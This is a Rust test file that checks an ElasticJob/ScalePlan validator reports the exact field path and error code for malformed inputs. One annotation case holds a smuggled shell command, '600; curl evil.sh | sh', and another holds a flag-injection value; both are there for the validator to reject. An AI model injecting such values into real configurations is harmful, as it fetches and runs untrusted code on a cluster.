//! Malformed jobs and plans: each row changes one field of a valid input and names the exact
//! field path and code the core must report, and nothing else.
// A test crate: its helpers outside #[test] functions may unwrap, as the tests do
// (the workspace lints deny it in shipped code; clippy.toml allows it in #[test] functions).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use elasticjob::{Code, Options, parse};
use rstest::rstest;
use serde_json::{Value, json};

fn base_job() -> Value {
    json!({
        "apiVersion": "elastic.iml.github.io/v1alpha1",
        "kind": "ElasticJob",
        "metadata": {"name": "ctr", "namespace": "ml"},
        "spec": {
            "distributionStrategy": "ParameterServerStrategy",
            "resourceLimits": {"cpu": "64", "memory": "256Gi"},
            "replicaSpecs": {
                "ps": {"replicas": 2, "template": {"spec": {"containers": [{"name": "main", "image": "tf:2",
                    "resources": {"requests": {"cpu": "2", "memory": "4Gi"}}}]}}},
                "worker": {"replicas": 3, "restartCount": 3, "template": {"spec": {"containers": [{"name": "main", "image": "tf:2",
                    "resources": {"requests": {"cpu": "1", "memory": "2Gi"}, "limits": {"cpu": "1", "memory": "2Gi"}}}]}}}
            }
        }
    })
}

fn base_plan() -> Value {
    json!({
        "apiVersion": "elastic.iml.github.io/v1alpha1",
        "kind": "ScalePlan",
        "metadata": {"name": "ctr-plan-1", "labels": {"scale-type": "auto"}},
        "spec": {
            "ownerJob": "ctr",
            "replicaResourceSpecs": {"worker": {"replicas": 4, "resource": {"cpu": "1", "memory": "2Gi"}}},
            "createPods": [{"name": "ctr-edljob-ps-2", "id": 2, "type": "ps", "rankIndex": 2, "resource": {"cpu": "2", "memory": "4Gi"}}],
            "removePods": [{"name": "ctr-edljob-worker-0", "id": 0, "type": "worker", "rankIndex": 0}],
            "migratePods": [{"name": "ctr-edljob-ps-0", "resource": {"cpu": "4", "memory": "8Gi"}}],
            "psHosts": ["ctr-edljob-ps-0:2222", "ctr-edljob-ps-1:2222", "ctr-edljob-ps-2:2222"]
        }
    })
}

/// Sets (or with `null`, removes) the value at a JSON pointer; `/-` appends to an array.
fn with(mut doc: Value, pointer: &str, value: Value) -> Value {
    let (parent, key) = pointer.rsplit_once('/').unwrap();
    let target = doc.pointer_mut(parent).unwrap_or_else(|| panic!("no {parent}"));
    match (target, value) {
        (Value::Object(map), Value::Null) => {
            map.remove(key);
        }
        (Value::Object(map), v) => {
            map.insert(key.replace("~1", "/"), v);
        }
        (Value::Array(items), v) if key == "-" => items.push(v),
        (Value::Array(items), v) => items[key.parse::<usize>().unwrap()] = v,
        _ => panic!("{pointer} is not in an object or array"),
    }
    doc
}

fn problems(result: elasticjob::Result<impl Sized>) -> Vec<(String, Code)> {
    match result {
        Ok(_) => Vec::new(),
        Err(e) => e.problems().iter().map(|p| (p.path.clone(), p.code)).collect(),
    }
}

#[test]
fn bases_are_valid() {
    assert_eq!(problems(parse::job(base_job())), []);
    assert_eq!(problems(parse::scale_plan(base_plan())), []);
    let job = parse::job(base_job()).unwrap();
    let plan = parse::scale_plan(base_plan()).unwrap();
    assert_eq!(problems(elasticjob::render(&job, Some(&plan), &Options::default())), []);
}

#[rstest]
#[case::name_missing("/metadata/name", Value::Null, "metadata.name", Code::Required)]
#[case::name_not_dns("/metadata/name", json!("Bad_Name"), "metadata.name", Code::InvalidName)]
#[case::name_starts_with_digit("/metadata/name", json!("1ctr"), "metadata.name", Code::InvalidName)]
#[case::name_too_long_for_master_service("/metadata/name", json!("a".repeat(38)), "metadata.name", Code::InvalidName)]
#[case::namespace_not_dns("/metadata/namespace", json!("ML Team"), "metadata.namespace", Code::InvalidName)]
#[case::api_version("/apiVersion", json!("v1"), "apiVersion", Code::InvalidValue)]
#[case::kind("/kind", json!("Job"), "kind", Code::InvalidValue)]
#[case::strategy_missing("/spec/distributionStrategy", Value::Null, "spec.distributionStrategy", Code::Required)]
#[case::strategy_unknown("/spec/distributionStrategy", json!("Horovod"), "spec.distributionStrategy", Code::InvalidValue)]
#[case::replica_type_unknown("/spec/replicaSpecs/workers", json!({"replicas": 1}), "spec.replicaSpecs.workers", Code::InvalidValue)]
#[case::no_task_replicas("/spec/replicaSpecs", json!({}), "spec.replicaSpecs", Code::Required)]
#[case::label_key_with_space("/metadata/labels", json!({"ml team": "ads"}), "metadata.labels.ml team", Code::InvalidName)]
#[case::label_key_prefix_upper_case("/metadata/labels", json!({"Example.com/team": "ads"}), "metadata.labels.Example.com/team", Code::InvalidName)]
#[case::label_value_too_long("/metadata/labels", json!({"team": "a".repeat(64)}), "metadata.labels.team", Code::InvalidValue)]
#[case::label_value_bad_end("/metadata/labels", json!({"team": "ads-"}), "metadata.labels.team", Code::InvalidValue)]
#[case::annotation_key_two_slashes("/metadata/annotations", json!({"a/b/c": "x"}), "metadata.annotations.a/b/c", Code::InvalidName)]
#[case::annotations_too_large("/metadata/annotations", json!({"notes": "x".repeat(256 * 1024)}), "metadata.annotations", Code::TooLarge)]
#[case::template_label_key("/spec/replicaSpecs/ps/template/metadata", json!({"labels": {"_ps": "1"}}), "spec.replicaSpecs.ps.template.metadata.labels._ps", Code::InvalidName)]
#[case::suspend_not_a_boolean("/spec/suspend", json!("yes"), "spec.suspend", Code::InvalidType)]
#[case::replicas_negative("/spec/replicaSpecs/worker/replicas", json!(-1), "spec.replicaSpecs.worker.replicas", Code::OutOfRange)]
#[case::replicas_absurd("/spec/replicaSpecs/worker/replicas", json!(10_001), "spec.replicaSpecs.worker.replicas", Code::OutOfRange)]
#[case::replicas_not_a_number("/spec/replicaSpecs/worker/replicas", json!("3"), "spec.replicaSpecs.worker.replicas", Code::InvalidType)]
#[case::replicas_past_i32("/spec/replicaSpecs/worker/replicas", json!(1_u64 << 40), "spec.replicaSpecs.worker.replicas", Code::InvalidValue)]
#[case::two_chiefs("/spec/replicaSpecs/chief", json!({"replicas": 2, "template": {"spec": {"containers": [{"name": "main", "image": "tf:2"}]}}}), "spec.replicaSpecs.chief.replicas", Code::OutOfRange)]
#[case::two_evaluators("/spec/replicaSpecs/evaluator", json!({"replicas": 2, "template": {"spec": {"containers": [{"name": "main", "image": "tf:2"}]}}}), "spec.replicaSpecs.evaluator.replicas", Code::OutOfRange)]
#[case::no_containers("/spec/replicaSpecs/worker/template/spec/containers", json!([]), "spec.replicaSpecs.worker.template.spec.containers", Code::NoContainers)]
#[case::no_pod_spec("/spec/replicaSpecs/ps/template", json!({}), "spec.replicaSpecs.ps.template.spec.containers", Code::NoContainers)]
#[case::container_unnamed("/spec/replicaSpecs/worker/template/spec/containers/0/name", json!(""), "spec.replicaSpecs.worker.template.spec.containers[0].name", Code::Required)]
#[case::container_without_image(
    "/spec/replicaSpecs/worker/template/spec/containers/0/image",
    Value::Null,
    "spec.replicaSpecs.worker.template.spec.containers[0].image",
    Code::Required
)]
#[case::quantity_malformed("/spec/replicaSpecs/ps/template/spec/containers/0/resources/requests/memory", json!("4 GB"), "spec.replicaSpecs.ps.template.spec.containers[0].resources.requests.memory", Code::InvalidQuantity)]
#[case::quantity_negative("/spec/replicaSpecs/worker/template/spec/containers/0/resources/limits/cpu", json!("-1"), "spec.replicaSpecs.worker.template.spec.containers[0].resources.limits.cpu", Code::OutOfRange)]
#[case::limit_malformed("/spec/resourceLimits/memory", json!("lots"), "spec.resourceLimits.memory", Code::InvalidQuantity)]
#[case::limit_exceeded("/spec/resourceLimits/cpu", json!("5"), "spec.resourceLimits.cpu", Code::ExceedsResourceLimits)]
#[case::restart_count_negative("/spec/replicaSpecs/worker/restartCount", json!(-1), "spec.replicaSpecs.worker.restartCount", Code::OutOfRange)]
#[case::restart_policy_unknown("/spec/replicaSpecs/worker/restartPolicy", json!("Sometimes"), "spec.replicaSpecs.worker.restartPolicy", Code::InvalidValue)]
#[case::priority_unknown("/spec/replicaSpecs/worker/priority", json!("urgent"), "spec.replicaSpecs.worker.priority", Code::InvalidValue)]
#[case::optimize_mode_unknown("/spec/optimizeMode", json!("auto"), "spec.optimizeMode", Code::InvalidValue)]
#[case::brain_not_an_address("/spec/brainService", json!("brain"), "spec.brainService", Code::InvalidAddress)]
#[case::env_name_mismatch("/spec/envs", json!({"A": {"name": "B", "value": "1"}}), "spec.envs.A.name", Code::Mismatch)]
#[case::master_arg_not_a_number("/metadata/annotations", json!({"pending_timeout": "600; curl evil.sh | sh"}), "metadata.annotations.pending_timeout", Code::InvalidValue)]
#[case::master_arg_flag_injection("/metadata/annotations", json!({"service_type": "--platform=local"}), "metadata.annotations.service_type", Code::InvalidValue)]
#[case::unknown_field("/spec/replicaSpecs/worker/replica", json!(3), "spec.replicaSpecs.worker.replica", Code::UnknownField)]
#[case::unknown_field_in_template("/spec/replicaSpecs/worker/template/spec/containers/0/imagePullPolcy", json!("Always"), "spec.replicaSpecs.worker.template.spec.containers[0].imagePullPolcy", Code::UnknownField)]
#[case::duplicate_containers("/spec/replicaSpecs/ps/template/spec/containers/-", json!({"name": "main", "image": "tf:2"}), "spec.replicaSpecs.ps.template.spec.containers[1].name", Code::Duplicate)]
#[case::deadline_zero("/spec/runPolicy", json!({"activeDeadlineSeconds": 0}), "spec.runPolicy.activeDeadlineSeconds", Code::OutOfRange)]
#[case::deadline_negative("/spec/runPolicy", json!({"activeDeadlineSeconds": -60}), "spec.runPolicy.activeDeadlineSeconds", Code::OutOfRange)]
#[case::deadline_absurd("/spec/runPolicy", json!({"activeDeadlineSeconds": 1_i64 << 40}), "spec.runPolicy.activeDeadlineSeconds", Code::OutOfRange)]
#[case::deadline_not_a_number("/spec/runPolicy", json!({"activeDeadlineSeconds": "1h"}), "spec.runPolicy.activeDeadlineSeconds", Code::InvalidType)]
#[case::ttl_negative("/spec/runPolicy", json!({"ttlSecondsAfterFinished": -1}), "spec.runPolicy.ttlSecondsAfterFinished", Code::OutOfRange)]
#[case::ttl_past_i32("/spec/runPolicy", json!({"ttlSecondsAfterFinished": 1_u64 << 40}), "spec.runPolicy.ttlSecondsAfterFinished", Code::InvalidValue)]
#[case::backoff_limit_negative("/spec/runPolicy", json!({"backoffLimit": -2}), "spec.runPolicy.backoffLimit", Code::OutOfRange)]
#[case::clean_pod_policy_unknown("/spec/runPolicy", json!({"cleanPodPolicy": "Finished"}), "spec.runPolicy.cleanPodPolicy", Code::InvalidValue)]
#[case::run_policy_unknown_field("/spec/runPolicy", json!({"backOffLimit": 3}), "spec.runPolicy.backOffLimit", Code::UnknownField)]
fn bad_job(#[case] pointer: &str, #[case] value: Value, #[case] path: &str, #[case] code: Code) {
    assert_eq!(problems(parse::job(with(base_job(), pointer, value))), [(path.to_owned(), code)]);
}

#[test]
fn previews_too_large_to_hold_are_refused() {
    // 2,500 workers list 2,500 * 2,501 / 2 addresses between them, past the bound of one plan: a
    // valid job (the controller creates it over several passes) that a preview does not render.
    let doc =
        with(with(base_job(), "/spec/resourceLimits", Value::Null), "/spec/replicaSpecs/worker/replicas", json!(2_500));
    let job = parse::job(doc).unwrap();
    let err = elasticjob::render(&job, None, &Options::default());
    assert_eq!(problems(err), [("spec.replicaSpecs".to_owned(), Code::TooLarge)]);
}

#[test]
fn plan_lists_are_bounded() {
    let hosts: Vec<String> = (0..40_001).map(|i| format!("h{i}:1")).collect();
    let plan = with(base_plan(), "/spec/psHosts", json!(hosts));
    assert_eq!(problems(parse::scale_plan(plan)), [("spec.psHosts".to_owned(), Code::TooLarge)]);
}

#[rstest]
#[case::ps_host_not_an_address("/spec/psHosts/0", json!("ctr-edljob-ps-0"), "spec.psHosts[0]", Code::InvalidAddress)]
#[case::ps_host_bad_port("/spec/psHosts/1", json!("ctr-edljob-ps-1:99999"), "spec.psHosts[1]", Code::InvalidAddress)]
#[case::ps_host_twice("/spec/psHosts/2", json!("ctr-edljob-ps-0:2222"), "spec.psHosts[2]", Code::Duplicate)]
#[case::ps_hosts_count("/spec/replicaResourceSpecs/ps", json!({"replicas": 4}), "spec.psHosts", Code::Mismatch)]
#[case::master_in_plan("/spec/replicaResourceSpecs/dlrover-master", json!({"replicas": 1}), "spec.replicaResourceSpecs.dlrover-master", Code::InvalidValue)]
#[case::plan_replicas_negative("/spec/replicaResourceSpecs/worker/replicas", json!(-3), "spec.replicaResourceSpecs.worker.replicas", Code::OutOfRange)]
#[case::plan_quantity("/spec/replicaResourceSpecs/worker/resource/cpu", json!("one"), "spec.replicaResourceSpecs.worker.resource.cpu", Code::InvalidQuantity)]
#[case::pod_id_negative("/spec/createPods/0/id", json!(-1), "spec.createPods[0].id", Code::OutOfRange)]
#[case::pod_rank_negative("/spec/createPods/0/rankIndex", json!(-1), "spec.createPods[0].rankIndex", Code::OutOfRange)]
#[case::pod_type_unknown("/spec/createPods/0/type", json!("learner"), "spec.createPods[0].type", Code::InvalidValue)]
#[case::pod_name_mismatch("/spec/createPods/0/name", json!("ctr-edljob-ps-7"), "spec.createPods[0].name", Code::Mismatch)]
#[case::pod_type_disagrees_with_name("/spec/createPods/0/type", json!("worker"), "spec.createPods[0].type", Code::Mismatch)]
#[case::pod_type_missing("/spec/migratePods/0/name", json!("ps-zero"), "spec.migratePods[0].type", Code::Required)]
#[case::migrate_without_resource(
    "/spec/migratePods/0/resource",
    Value::Null,
    "spec.migratePods[0].resource",
    Code::Required
)]
#[case::pod_service_not_an_address("/spec/createPods/0/service", json!("ctr-edljob-ps-2"), "spec.createPods[0].service", Code::InvalidAddress)]
#[case::created_service_cannot_name_a_service("/spec/createPods/0/service", json!("2ctr-edljob-ps-2.ml.svc:2222"), "spec.createPods[0].service", Code::InvalidName)]
#[case::created_service_of_another_job("/spec/createPods/0/service", json!("b-edljob-ps-2.ml.svc:2222"), "spec.createPods[0].service", Code::Mismatch)]
#[case::created_service_not_numbered("/spec/createPods/0/service", json!("ctr-edljob-ps-2x.ml.svc:2222"), "spec.createPods[0].service", Code::Mismatch)]
#[case::created_service_of_a_job_named_like_a_service("/spec/createPods/0/service", json!("ctr-edljob-ps-0-edljob-ps-2:2222"), "spec.createPods[0].service", Code::Mismatch)]
#[case::created_service_of_another_type("/spec/createPods/0/service", json!("ctr-edljob-worker-2.ml.svc:2222"), "spec.createPods[0].service", Code::Mismatch)]
#[case::created_name_without_id("/spec/createPods/0/id", Value::Null, "spec.createPods[0].id", Code::Required)]
#[case::created_id_disagrees_with_name("/spec/createPods/0/id", json!(5), "spec.createPods[0].name", Code::Mismatch)]
#[case::created_rank_past_plan_replicas("/spec/createPods/-", json!({"name": "ctr-edljob-worker-9", "id": 9, "type": "worker", "rankIndex": 4}), "spec.createPods[1].rankIndex", Code::OutOfRange)]
#[case::created_ps_without_address("/spec/createPods/0/rankIndex", json!(3), "spec.createPods[0].rankIndex", Code::TfConfigHole)]
#[case::removed_without_name_or_id("/spec/removePods/0", json!({"type": "worker", "rankIndex": 0}), "spec.removePods[0].name", Code::Required)]
#[case::created_and_removed("/spec/removePods/0", json!({"name": "ctr-edljob-ps-2", "id": 2, "type": "ps", "rankIndex": 2}), "spec.createPods[0].name", Code::Duplicate)]
#[case::second_chief("/spec/createPods/0", json!({"name": "ctr-edljob-chief-1", "id": 1, "type": "chief", "rankIndex": 1}), "spec.createPods[0].rankIndex", Code::OutOfRange)]
#[case::owner_not_a_job_name("/spec/ownerJob", json!("CTR!"), "spec.ownerJob", Code::InvalidName)]
#[case::plan_unknown_field("/spec/psHost", json!([]), "spec.psHost", Code::UnknownField)]
fn bad_scale_plan(#[case] pointer: &str, #[case] value: Value, #[case] path: &str, #[case] code: Code) {
    assert_eq!(problems(parse::scale_plan(with(base_plan(), pointer, value))), [(path.to_owned(), code)]);
}

/// The job masters' ServiceAccount (issue 46, H1): one row, one template that names it, through
/// the render a preview and the controller's pass share, under `masterServiceAccount: ml-masters`.
#[rstest]
#[case::worker_names_the_charts_account("/spec/replicaSpecs/worker/template/spec/serviceAccountName", json!("elasticjob-dlrover-master"), "spec.replicaSpecs.worker.template.spec.serviceAccountName", Code::Forbidden)]
#[case::ps_names_the_options_account("/spec/replicaSpecs/ps/template/spec/serviceAccountName", json!("ml-masters"), "spec.replicaSpecs.ps.template.spec.serviceAccountName", Code::Forbidden)]
#[case::ps_names_it_the_deprecated_way("/spec/replicaSpecs/ps/template/spec/serviceAccount", json!("ml-masters"), "spec.replicaSpecs.ps.template.spec.serviceAccount", Code::Forbidden)]
#[case::chief_names_it("/spec/replicaSpecs/chief", json!({"replicas": 1, "template": {"spec": {"serviceAccountName": "ml-masters", "containers": [{"name": "main", "image": "tf:2"}]}}}), "spec.replicaSpecs.chief.template.spec.serviceAccountName", Code::Forbidden)]
#[case::evaluator_names_it("/spec/replicaSpecs/evaluator", json!({"replicas": 1, "template": {"spec": {"serviceAccountName": "elasticjob-dlrover-master", "containers": [{"name": "main", "image": "tf:2"}]}}}), "spec.replicaSpecs.evaluator.template.spec.serviceAccountName", Code::Forbidden)]
#[case::own_image_master_names_it("/spec/replicaSpecs/dlrover-master", json!({"template": {"spec": {"serviceAccountName": "ml-masters", "containers": [{"name": "main", "image": "evil:1"}]}}}), "spec.replicaSpecs.dlrover-master.template.spec.serviceAccountName", Code::Forbidden)]
#[case::sidecar_master_names_it("/spec/replicaSpecs/dlrover-master", json!({"template": {"spec": {"serviceAccountName": "elasticjob-dlrover-master", "containers": [{"name": "main"}, {"name": "side", "image": "x:1"}]}}}), "spec.replicaSpecs.dlrover-master.template.spec.serviceAccountName", Code::Forbidden)]
fn the_masters_account(#[case] pointer: &str, #[case] value: Value, #[case] path: &str, #[case] code: Code) {
    let options = Options { master_service_account: Some("ml-masters".to_owned()), ..Options::default() };
    let job = parse::job(with(base_job(), pointer, value)).unwrap();
    assert_eq!(problems(elasticjob::render(&job, None, &options)), [(path.to_owned(), code)]);
    // A user-written master is the admin's to allow; a task pod never runs as the account.
    let allowed = Options { allow_user_masters: true, ..options };
    let expected: &[(String, Code)] = if path.contains("dlrover-master") { &[] } else { &[(path.to_owned(), code)] };
    assert_eq!(problems(elasticjob::render(&job, None, &allowed)), expected);
}

#[rstest]
#[case::not_a_name(json!("Masters\u{202e}"), Code::InvalidName)]
#[case::default_account(json!("default"), Code::InvalidValue)]
fn bad_master_service_account_option(#[case] account: Value, #[case] code: Code) {
    let options: Options = serde_json::from_value(json!({"masterServiceAccount": account})).unwrap();
    let job = parse::job(base_job()).unwrap();
    assert_eq!(problems(elasticjob::render(&job, None, &options)), [("options.masterServiceAccount".to_owned(), code)]);
}

#[test]
fn duplicate_pods_in_a_plan() {
    let mut plan = base_plan();
    let first = plan["spec"]["createPods"][0].clone();
    plan["spec"]["createPods"].as_array_mut().unwrap().push(first);
    assert_eq!(
        problems(parse::scale_plan(plan)),
        [("spec.createPods[1]".to_owned(), Code::Duplicate), ("spec.createPods[1]".to_owned(), Code::Duplicate)]
    );
}

/// Two pods of one type and rank are one too many; of one rank and two types, or of one type and
/// two ranks, they are not.
#[rstest]
#[case::same_type_and_rank(json!({"name": "ctr-edljob-ps-7", "id": 7, "type": "ps", "rankIndex": 2}), true)]
#[case::same_rank_other_type(json!({"name": "ctr-edljob-worker-7", "id": 7, "type": "worker", "rankIndex": 2}), false)]
#[case::same_type_other_rank(json!({"name": "ctr-edljob-ps-7", "id": 7, "type": "ps", "rankIndex": 1}), false)]
fn pods_of_one_type_and_rank_in_a_plan(#[case] entry: Value, #[case] duplicate: bool) {
    let plan = with(base_plan(), "/spec/createPods/-", entry);
    let expected: &[(String, Code)] =
        if duplicate { &[("spec.createPods[1]".to_owned(), Code::Duplicate)] } else { &[] };
    assert_eq!(problems(parse::scale_plan(plan)), expected);
}

#[rstest]
#[case::owner_is_another_job("/spec/ownerJob", json!("other"), "scalePlan.spec.ownerJob", Code::Mismatch)]
#[case::type_without_template("/spec/replicaResourceSpecs/evaluator", json!({"replicas": 1}), "scalePlan.spec.replicaResourceSpecs.evaluator", Code::Required)]
#[case::plan_exceeds_limits("/spec/replicaResourceSpecs/worker/replicas", json!(70), "scalePlan.spec.replicaResourceSpecs", Code::ExceedsResourceLimits)]
#[case::pod_named_for_another_job("/spec/createPods", json!([{"name": "ads-edljob-ps-2", "id": 2, "type": "ps", "rankIndex": 1}]), "scalePlan.spec.createPods[0].name", Code::Mismatch)]
#[case::service_of_another_job("/spec/createPods", json!([{"name": "ctr-edljob-ps-2", "id": 2, "type": "ps", "rankIndex": 0, "service": "b-edljob-ps-0.ml.svc:2222"}]), "scalePlan.spec.createPods[0].service", Code::Mismatch)]
fn plan_against_job(#[case] pointer: &str, #[case] value: Value, #[case] path: &str, #[case] code: Code) {
    let job = parse::job(base_job()).unwrap();
    let mut plan = with(base_plan(), "/spec/ownerJob", Value::Null);
    for list in ["createPods", "removePods", "migratePods", "psHosts"] {
        plan = with(plan, &format!("/spec/{list}"), Value::Null);
    }
    let plan = parse::scale_plan(with(plan, pointer, value)).unwrap();
    assert_eq!(problems(elasticjob::render(&job, Some(&plan), &Options::default())), [(path.to_owned(), code)]);
}

#[test]
fn json_syntax_error_has_line_and_column() {
    let err = parse::from_json::<elasticjob::ElasticJob>("{\n  \"metadata\": {\"name\": \"a\",}\n}").unwrap_err();
    let problem = &err.problems()[0];
    assert_eq!(problem.code, Code::Syntax);
    assert!(problem.message.contains("line 2 column"), "{}", problem.message);
}

#[test]
fn pods_with_a_wrong_type_name_the_pod() {
    let err = parse::pods(json!([{"metadata": {"name": "a"}}, {"status": {"phase": 3}}])).unwrap_err();
    assert_eq!(problems(Err::<(), _>(err)), [("pods[1].status.phase".to_owned(), Code::InvalidType)]);
}
